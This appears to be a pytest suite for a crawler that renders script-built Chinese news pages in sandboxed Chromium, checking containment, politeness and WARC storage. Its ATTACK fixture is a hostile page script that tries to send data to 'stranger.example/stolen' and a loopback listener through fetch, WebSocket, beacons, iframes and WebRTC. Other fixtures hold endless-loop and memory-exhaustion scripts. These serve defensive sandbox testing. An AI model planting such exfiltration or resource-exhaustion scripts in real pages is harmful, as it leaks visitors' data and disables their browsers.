"""Pages made by a script: read through Chromium where a source says so, which reaches nothing but that source."""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import socket
import threading
import time
from collections.abc import Callable, Collection, Iterator, Mapping
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from importlib.util import find_spec
from io import BytesIO
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from scrapy import Spider
from scrapy.crawler import Crawler
from scrapy.settings import Settings
from warcio.archiveiterator import ArchiveIterator
from warcio.warcwriter import WARCWriter

from crawler.catalogue import Catalogue, read_source
from crawler.config import load_config
from crawler.demo import DemoServer
from crawler.demo.answer import Answer, Resource
from crawler.demo.server import Visit
from crawler.errors import CatalogueError, WarcError
from crawler.model import Page, Source
from crawler.net.browser import RenderPages, find_browser, wants_browser
from crawler.services import Services, bind
from crawler.warc.reading import WarcReplay, read_page
from crawler.warc.writing import RENDERED, WarcFiles
from crawler.wiring import Wiring
from tests.cli.worlds import call
from tests.crawler.loopback import (
    LittleSite,
    article,
    crawl,
    html,
    list_page,
    little_server,
    run,
    scrapy,
    settings,
    source_file,
    start,
)

HAS_BROWSER = find_spec("scrapy_playwright") is not None and find_browser(load_config()) is not None
NO_BROWSER = "needs Chromium and the extra: pip install 'hrwatch[browser]'"
needs_browser = pytest.mark.skipif(not HAS_BROWSER, reason=NO_BROWSER)
SOME_FAILED = 1

SHELL, OTHER, STRANGER = "shell.example", "data.shell.example", "stranger.example"
HOSTS = tuple(f"{name}.example" for name in ("plain", "endless", "huge", "big", "greedy", "wall"))
NAMES = dict.fromkeys((SHELL, OTHER, STRANGER, *HOSTS), "127.0.0.1")
TITLE = "川渝人社部门签署合作协议"
SENTENCES = "".join(
    f"川渝两地人社部门签署人力资源合作协议，共建公共就业服务平台。第{n}项工作已经落实（合成）。|" for n in range(8)
)
REST = "".join(f"本周休假安排第{n}条：图书馆闭馆一天，院子里的花照常浇水（合成）。|" for n in range(8))
ROWS = {
    "rows": [
        {"href": "/a/1", "title": TITLE, "day": "2026-03-02"},
        {"href": "/a/2", "title": "关于休假", "day": "2026-03-01"},
    ]
}
LIST = """<ul class="list"></ul><script src="/lib.js"></script><script>
fetch("http://data.shell.example/api/rows", {method: "POST", body: "page=1"}).then(r => r.json()).then(found => {
  for (const row of found.rows) {
    const li = document.createElement("li");
    li.innerHTML = `<a href="${row.href}">${row.title}</a><span>${row.day}</span>`;
    document.querySelector("ul").append(li);
  }
});
</script>"""
ARTICLE = """<div id="app"></div><script src="/lib.js"></script><script>
setTimeout(() => {
  document.cookie = "seen=1";
  document.getElementById("app").innerHTML = "<h1>%s</h1><div>发布时间：2026-03-02 10:20</div><div class='content'>"
    + "%s".split("|").map(text => "<p>" + text + "</p>").join("") + "</div>";
}, 300);
</script>""" % (TITLE, SENTENCES)  # noqa: UP031 - braces belong to the script
# What a hostile page tries, besides its list.
ATTACK = """<script>
const link = () => document.createElement("link");
const tried = [
  () => fetch("http://stranger.example/stolen"), () => fetch("http://127.0.0.2:PEER/stolen"),
  () => fetch("http://localhost:PEER/stolen"), () => fetch("/forbidden/data"),
  () => new WebSocket("ws://127.0.0.2:PEER/"), () => new EventSource("http://127.0.0.2:PEER/"),
  () => navigator.sendBeacon("http://127.0.0.2:PEER/", "x"), () => window.open("http://127.0.0.2:PEER/"),
  () => new Worker("/worker.js"), () => navigator.serviceWorker.register("/worker.js"),
  () => document.body.append(Object.assign(new Image(), {src: "http://127.0.0.2:PEER/i.png"})),
  () => document.body.append(Object.assign(document.createElement("iframe"), {src: "http://127.0.0.2:PEER/"})),
  () => document.head.append(Object.assign(link(), {rel: "preconnect", href: "http://127.0.0.2:PEER/"})),
  () => document.head.append(Object.assign(link(), {rel: "stylesheet", href: "http://127.0.0.2:PEER/"})),
  () => { const turn = {urls: "turn:127.0.0.2:PEER?transport=tcp", username: "x", credential: "x"};
          const peer = new RTCPeerConnection({iceServers: [turn]});
          peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer)); },
  () => { location.href = "http://127.0.0.2:PEER/"; },
];
for (const attempt of tried) { try { attempt(); } catch (error) {} }
</script>"""
ENDLESS = "<p>合成</p><script>setTimeout(() => { while (true) {} }, 50);</script>"
GROWING = """<ul class="list"></ul><script>
const line = () => Object.assign(document.createElement("p"), {innerText: "合成".repeat(20)});
document.body.append(...Array.from({length: 5000}, line));
</script>"""
WALL = "<script>window.WTKkN = 1; document.cookie = '__tst_status=1'; fetch('/passed');</script>"
GREEDY = "<script>const kept = []; while (true) { kept.push(new Uint8Array(5e7).fill(1)); }</script>"
HUGE = """<ul class="list"></ul><script>
document.body.append("合成".repeat(12500000));
</script>"""


@dataclass
class Peer:
    """A listener that nobody should ever reach."""

    port: int
    reached: list[str]


@pytest.fixture(scope="module")
def peer() -> Iterator[Peer]:
    with socket.socket() as listener:
        listener.bind(("127.0.0.2", 0))
        listener.listen()
        found = Peer(listener.getsockname()[1], [])

        def take() -> None:
            while True:
                try:
                    found.reached.append(str(listener.accept()[1]))
                except OSError:
                    return

        threading.Thread(target=take, daemon=True).start()
        yield found
        listener.shutdown(socket.SHUT_RDWR)


def source(
    folder: Path, source_id: str, *hosts: str, port: int, more: str = "browser = true", in_list: str = ""
) -> Path:
    """A folder with this source in it."""
    return source_file(folder, source_id, *hosts, port=port, more=more, in_list=in_list).parent


def pages(peer_port: int) -> dict[str, Resource]:
    attack = ATTACK.replace("PEER", str(peer_port))
    shared = {"Access-Control-Allow-Origin": "*"}
    return {
        f"{SHELL}/robots.txt": Resource(body=b"User-agent: *\nDisallow: /forbidden/\n", content_type="text/plain"),
        f"{SHELL}/list": Resource(body=html(LIST + attack), modified=datetime(2026, 1, 1, tzinfo=UTC)),
        f"{SHELL}/lib.js": Resource(body=b"window.lib = 1;", content_type="text/javascript"),
        f"{SHELL}/a/1": Resource(body=html(ARTICLE, TITLE), headers={"Set-Cookie": "id=7"}),
        f"{SHELL}/a/2": Resource(body=html(ARTICLE.replace(TITLE, "关于休假").replace(SENTENCES, REST), "关于休假")),
        f"{SHELL}/forbidden/data": Resource(body=b"{}"),
        f"{OTHER}/api/rows": Resource(body=json.dumps(ROWS).encode(), content_type="application/json", headers=shared),
        "plain.example/list": list_page(("/a/3", "渝川两地联合招聘")),
        "plain.example/a/3": article("渝川两地联合招聘", "成渝双城经济圈跨省招聘会在两江四岸举行，四川重庆企业设摊。"),
        "endless.example/list": Resource(body=html(ENDLESS)),
        "greedy.example/list": Resource(body=html(GREEDY)),
        "wall.example/list": Resource(body=html(WALL)),
        "big.example/list": Resource(body=html(GROWING)),
        "huge.example/list": Resource(body=html(HUGE)),
    }


@dataclass
class Site(LittleSite):
    """A little site that remembers the cookies it was sent."""

    cookies: list[str] = field(default_factory=list)

    def answer(self, method: str, host: str, path: str, headers: Mapping[str, str]) -> Answer:
        self.cookies += [value for name, value in headers.items() if name.lower() == "cookie"]
        return super().answer(method, host, path, headers)


def environment(data: Path, names: Mapping[str, str] = NAMES, **more: str) -> dict[str, str]:
    # the folder's name stands in every process that the run starts
    return settings(names, **{"browser_timeout_s": "20", "data": str(data), **more})


def of_this_run(data: Path) -> dict[int, str]:
    """Processes of a run, by what they inherited: the run itself, Playwright's driver, Chromium."""
    found = {}
    for process in Path("/proc").glob("[0-9]*"):
        try:
            command = (process / "cmdline").read_bytes()
            if os.fsencode(data) in (process / "environ").read_bytes():
                found[int(process.name)] = command.replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
    return found


def below(ancestors: Collection[int]) -> set[int]:
    """Every process below these, whatever it says of itself."""
    parents = {}
    for status in Path("/proc").glob("[0-9]*/stat"):
        try:
            # "4242 (chromium) S 4200 …": the second number behind the name
            parents[int(status.parent.name)] = int(status.read_text().rpartition(")")[2].split()[1])
        except OSError:
            continue
    found = set(ancestors)
    while new := {child for child, parent in parents.items() if parent in found} - found:
        found |= new
    return found


def family_with_renderer(data: Path) -> set[int]:
    """The processes of a run once one of them makes pages; none before."""
    family = below(of_this_run(data))
    for pid in family:
        with contextlib.suppress(OSError):
            if b"--type=renderer" in Path(f"/proc/{pid}/cmdline").read_bytes():
                return family
    return set()


def wait_until(is_so: Callable[[], bool], timeout_s: float = 60) -> bool:
    end = time.monotonic() + timeout_s
    while not is_so():
        if time.monotonic() > end:
            return False
        time.sleep(0.1)
    return True


@dataclass
class Pass:
    data: Path
    sources: Path
    server: DemoServer
    site: Site
    peer: Peer
    first: dict[str, dict[str, Any]]
    second: dict[str, dict[str, Any]]
    first_visits: tuple[Visit, ...]
    second_visits: tuple[Visit, ...]
    left: dict[int, str]


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory, peer: Peer) -> Iterator[Pass]:
    if not HAS_BROWSER:
        pytest.skip(NO_BROWSER)
    folder = tmp_path_factory.mktemp("browser")
    data = folder / "D"
    site = Site(pages(peer.port))
    with little_server(site) as server:
        sources = source(folder / "sources", "shell", SHELL, OTHER, port=server.port)
        source(sources, "plain", "plain.example", port=server.port, more="")
        source(sources, "endless", "endless.example", port=server.port)
        source(sources, "wall", "wall.example", port=server.port)
        args = ("--all", "--sources", sources)
        first = crawl(environment(data), data, *args, expect=SOME_FAILED)
        left = of_this_run(data)
        first_visits = server.visits
        server.forget_visits()
        second = crawl(environment(data), data, "shell", "--sources", sources)
        yield Pass(data, sources, server, site, peer, first, second, first_visits, server.visits, left)


def records(data: Path) -> dict[str, tuple[str, Any, bytes]]:
    """What the WARC files hold by path: kind, headers, body."""
    found = {}
    for path in (data / "warc").iterdir():
        with path.open("rb") as file:
            for record in ArchiveIterator(file):
                url = record.rec_headers.get_header("WARC-Target-URI")
                if url is not None:
                    place = url.partition("://")[2].partition("/")
                    name = f"{place[0].partition(':')[0]}/{place[2]}"
                    found[name] = (record.rec_type, record.rec_headers, record.content_stream().read())
    return found


def stories(data: Path) -> list[tuple[str, str, str]]:
    env = environment(data, {}, allow_private="[]")
    printed, _err = call(env, data, "search", "--limit", "50", "--json")
    return sorted((story["title"], story["published"], story["first_source"]) for story in json.loads(printed))


def test_a_list_and_articles_made_by_scripts_are_read(rendered: Pass) -> None:
    shell = rendered.first["shell"]
    assert (shell["ok"], shell["rows"], shell["stored"]) == (True, 2, 2)
    assert TITLE in {title for title, _published, _source in stories(rendered.data)}
    shown, _err = call(environment(rendered.data), rendered.data, "search", "川渝", "--json")
    (story,) = [story for story in json.loads(shown) if story["title"] == TITLE]
    assert story["published"].startswith("2026-03-02")


def test_a_source_that_does_not_ask_for_a_browser_gets_none(rendered: Pass) -> None:
    assert rendered.first["plain"]["stored"] == 1
    kinds = {name: kind for name, (kind, _, _) in records(rendered.data).items() if name.startswith("plain")}
    assert set(kinds.values()) == {"response"}


def test_nothing_but_the_source_is_reached(rendered: Pass) -> None:
    assert rendered.peer.reached == []
    asked = {(visit.host, visit.path) for visit in rendered.first_visits}
    assert STRANGER not in {host for host, _path in asked}
    assert (SHELL, "/forbidden/data") not in asked
    assert (OTHER, "/api/rows") in asked


def test_what_was_refused_is_counted(rendered: Pass) -> None:
    _kind, headers, _body = records(rendered.data)[f"{SHELL}/list"]
    mark = re.fullmatch(r"Chromium [\d.]+; (\d+) requests; (\d+) refused", headers.get_header("X-Hrwatch-Rendered"))
    assert mark is not None
    # stranger, 127.0.0.2, localhost, robots, the socket, popup, frame and the page itself
    assert int(mark[2]) >= 6


def test_manners_are_those_of_any_source(rendered: Pass) -> None:
    visits = [visit for visit in rendered.first_visits if visit.host in (SHELL, OTHER)]
    assert {visit.user_agent.partition("/")[0] for visit in visits} == {"hrwatch"}
    assert max(visit.at_once for visit in visits) == 1
    assert rendered.site.cookies == []
    # a script that several pages share is had once
    assert [visit.path for visit in visits].count("/lib.js") == 1
    assert {"/robots.txt"} <= {visit.path for visit in visits if visit.host == OTHER}


def test_an_endless_script_is_ended(rendered: Pass) -> None:
    report = rendered.first["endless"]
    assert report["reason"] == "timeout"
    assert "20 s" in report["detail"]
    took = datetime.fromisoformat(report["ended_at"]) - datetime.fromisoformat(report["started_at"])
    assert took.total_seconds() < 80


def test_a_challenge_is_reported_and_not_run(rendered: Pass) -> None:
    assert rendered.first["wall"]["reason"] == "blocked"
    assert {visit.path for visit in rendered.first_visits if visit.host == "wall.example"} == {"/robots.txt", "/list"}


def test_an_unchanged_list_is_told_by_its_dom(rendered: Pass) -> None:
    shell = rendered.second["shell"]
    assert shell["lists"][0]["unchanged"]
    assert shell["stored"] == 0
    # the shell itself would have answered 304, whatever its script brings
    assert [visit.path for visit in rendered.second_visits if visit.is_conditional] == []
    assert not [visit for visit in rendered.second_visits if visit.path.startswith("/a/")]


def test_the_dom_is_kept_as_a_conversion(rendered: Pass) -> None:
    kept = records(rendered.data)
    for name in (f"{SHELL}/list", f"{SHELL}/a/1", f"{SHELL}/a/2"):
        kind, headers, body = kept[name]
        assert kind == "conversion"
        assert headers.get_header("Content-Type") == "text/html; charset=utf-8"
        assert body.decode("utf-8-sig").startswith("<!DOCTYPE html><html")
    assert "<p>川渝两地" in kept[f"{SHELL}/a/1"][2].decode("utf-8-sig")
    # what its scripts asked for is in it
    assert not {f"{SHELL}/lib.js", f"{OTHER}/api/rows"} & set(kept)


def test_replay_needs_no_browser(rendered: Pass, tmp_path: Path) -> None:
    env = environment(tmp_path / "R", {}, allow_private="[]", browser=str(tmp_path / "none"))
    files = sorted((rendered.data / "warc").iterdir())
    replay = [part for path in files for part in ("--replay", path)]
    args = ("shell", "plain", "--sources", rendered.sources)
    reports = crawl(env, tmp_path / "R", *args, *replay)
    assert {name: report["stored"] for name, report in reports.items()} == {"shell": 2, "plain": 1}
    assert stories(tmp_path / "R") == stories(rendered.data)
    # the copy is marked as the original is
    assert records(tmp_path / "R")[f"{SHELL}/a/1"][0] == "conversion"


def test_nothing_is_left_running(rendered: Pass) -> None:
    assert rendered.left == {}


@needs_browser
def test_a_page_that_grows_is_refused(tmp_path: Path) -> None:
    with little_server(LittleSite(pages(1))) as server:
        sources = source(tmp_path / "sources", "big", "big.example", port=server.port)
        source(sources, "huge", "huge.example", port=server.port)
        source(sources, "greedy", "greedy.example", port=server.port)
        data = tmp_path / "D"
        reports = crawl(
            environment(data, max_page_bytes="200000", browser_timeout_s="40"),
            data,
            "--all",
            "--sources",
            sources,
            expect=SOME_FAILED,
        )
    assert (reports["big"]["reason"], reports["big"]["detail"]) == (
        "too-large",
        "over 200000 bytes once its scripts had run",
    )
    assert reports["greedy"]["reason"] == "too-large"
    assert "memory" in reports["greedy"]["detail"]
    # laying out 50 MB takes too much memory, or on a busy machine too much time
    assert reports["huge"]["reason"] in ("too-large", "timeout")
    assert of_this_run(data) == {}


@needs_browser
def test_scrapy_crawl_has_the_browser_too(tmp_path: Path) -> None:
    data = tmp_path / "D"
    with little_server(LittleSite(pages(1))) as server:
        sources = source(tmp_path / "sources", "shell", SHELL, OTHER, port=server.port)
        env = environment(data, sources=json.dumps([str(sources)]))
        done = scrapy(env, data, "crawl", "generic", "-a", "sources=shell")
    assert done.returncode == 0, done.stderr
    assert TITLE in {title for title, _published, _source in stories(data)}


@needs_browser
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
def test_a_run_that_is_ended_takes_its_browser_along(number: signal.Signals, tmp_path: Path) -> None:
    data = tmp_path / "D"
    with little_server(LittleSite(pages(1))) as server:
        sources = source(tmp_path / "sources", "endless", "endless.example", port=server.port)
        process = start(environment(data), data, "crawl", "--all", "--sources", sources)
        try:
            # the run, the driver, the browser, its zygotes and its renderer
            is_open = wait_until(lambda: len(family_with_renderer(data)) > 4)
            time.sleep(1)  # whatever it is at by then, and mostly with its page
            family = below(of_this_run(data))
            profiles = re.findall(r"--user-data-dir=(\S+)", " ".join(of_this_run(data).values()))
            process.send_signal(number)
            _out, errors = process.communicate(timeout=120)
        finally:
            process.kill()
        assert is_open, errors
        assert "Traceback" not in errors

        assert wait_until(lambda: not any(Path(f"/proc/{pid}").exists() for pid in family))
        assert wait_until(lambda: not of_this_run(data))
        assert profiles
        assert wait_until(lambda: not any(Path(profile).exists() for profile in profiles))


@pytest.mark.parametrize("missing", ["extra", "program"])
def test_what_is_missing_is_said_and_other_sources_go_on(missing: str, tmp_path: Path) -> None:
    data = tmp_path / "D"
    env = environment(data, browser=str(tmp_path / "chromium-that-is-not-there"))
    if missing == "extra":
        (tmp_path / "sitecustomize.py").write_text("import sys\nsys.modules['scrapy_playwright'] = None\n")
        env["PYTHONPATH"] = os.pathsep.join(filter(None, (str(tmp_path), env.get("PYTHONPATH"))))
    with little_server(LittleSite(pages(1))) as server:
        sources = source(tmp_path / "sources", "shell", SHELL, OTHER, port=server.port)
        source(sources, "plain", "plain.example", port=server.port, more="")
        done = run(env, data, "crawl", "--json", "--all", "--sources", sources, expect=SOME_FAILED)
        asked = {visit.path for visit in server.visits if visit.host == SHELL}
        doctor = run(env, data, "doctor", "--json", "--sources", sources, expect=SOME_FAILED)
    assert done.stdout, done.stderr
    assert doctor.stdout, doctor.stderr
    reports = {report["source"]: report for report in json.loads(done.stdout)}
    assert reports["plain"]["stored"] == 1
    assert reports["shell"]["reason"] == "no-browser"
    install = "pip install 'hrwatch[browser]'" if missing == "extra" else "chromium-that-is-not-there: no such program"
    assert reports["shell"]["detail"].startswith("shell: ")
    assert install in reports["shell"]["detail"]
    assert "Traceback" not in done.stderr
    assert asked <= {"/robots.txt"}
    (check,) = [check for check in json.loads(doctor.stdout) if check["check"] == "browser"]
    assert not check["ok"]
    assert install in check["detail"]
    assert "shell" in check["detail"]


@needs_browser
def test_a_program_that_is_no_browser_is_said(tmp_path: Path) -> None:
    data = tmp_path / "D"
    with little_server(LittleSite(pages(1))) as server:
        sources = source(tmp_path / "sources", "shell", SHELL, OTHER, port=server.port)
        env = environment(data, browser="/bin/false")
        done = run(env, data, "crawl", "--json", "--all", "--sources", sources, expect=SOME_FAILED)
    assert done.stdout, done.stderr
    (report,) = json.loads(done.stdout)
    assert report["reason"] == "no-browser"
    assert "/bin/false does not start" in report["detail"]
    assert "Traceback" not in done.stderr


def read(folder: Path, name: str) -> Source:
    return read_source(folder / f"{name}.toml", families=("generic",), is_adcode=lambda _code: True)


def test_a_list_may_differ_from_its_source(tmp_path: Path) -> None:
    source(tmp_path, "a", SHELL, port=80, more="", in_list="browser = true")
    source(tmp_path, "b", SHELL, port=80, in_list="browser = false")
    source(tmp_path, "c", SHELL, port=80)
    source(tmp_path, "d", SHELL, port=80, more="")
    found = [(read(tmp_path, name).browser, read(tmp_path, name).lists[0].browser) for name in "abcd"]
    assert found == [(False, True), (True, False), (True, True), (False, False)]
    assert [wants_browser(read(tmp_path, name)) for name in "abcd"] == [True, True, True, False]


@pytest.mark.parametrize(
    ("more", "in_list", "key"), [('browser = "yes"', "", "browser"), ("", "browser = 1", "list.0.browser")]
)
def test_browser_is_true_or_false(more: str, in_list: str, key: str, tmp_path: Path) -> None:
    source(tmp_path, "a", SHELL, port=80, more=more, in_list=in_list)
    with pytest.raises(CatalogueError, match=f"a.toml: {key}: "):
        read(tmp_path, "a")


@pytest.mark.parametrize(("name", "replay", "has_browser"), [("c", None, True), ("d", None, False), ("c", "x", False)])
def test_only_a_registry_that_asks_for_it_has_the_browser_in_its_way(
    name: str, replay: object, has_browser: bool, tmp_path: Path
) -> None:
    source(tmp_path, "c", SHELL, port=80)
    source(tmp_path, "d", SHELL, port=80, more="")
    crawler, scrapy_settings = Crawler(Spider), Settings()
    bind(crawler, cast(Services, SimpleNamespace(catalogue=Catalogue((read(tmp_path, name),)), replay=replay)))
    Wiring(crawler).update_settings(scrapy_settings)
    assert (RenderPages in scrapy_settings["DOWNLOADER_MIDDLEWARES"]) is has_browser


def test_only_our_own_conversions_are_answers(tmp_path: Path) -> None:
    url = "http://shell.example/a/1"
    page = Page(
        url=url,
        status=200,
        headers={"content-type": "text/html; charset=utf-8", RENDERED.lower(): "Chromium 1; 0 requests; 0 refused"},
        body=html(TITLE),
        fetched_at=datetime(2026, 11, 22, tzinfo=UTC),
    )
    files = WarcFiles(tmp_path, max_bytes=2**20, user_agent="hrwatch/0")
    place = files.write(page)
    files.close()
    path = tmp_path / place.file
    with path.open("ab") as file:
        # somebody else's: a picture of the page, say
        writer = WARCWriter(file, gzip=True)
        writer.write_record(writer.create_warc_record(url, "conversion", payload=BytesIO(b"%PDF-"), length=5))
    found = WarcReplay([path]).find(url)
    assert found is not None
    assert (found.status, found.headers, found.body) == (200, page.headers, page.body)
    assert read_page(tmp_path, place) == found
    with pytest.raises(WarcError, match="conversion record is no answer"):
        read_page(tmp_path, replace(place, offset=place.offset + place.length))
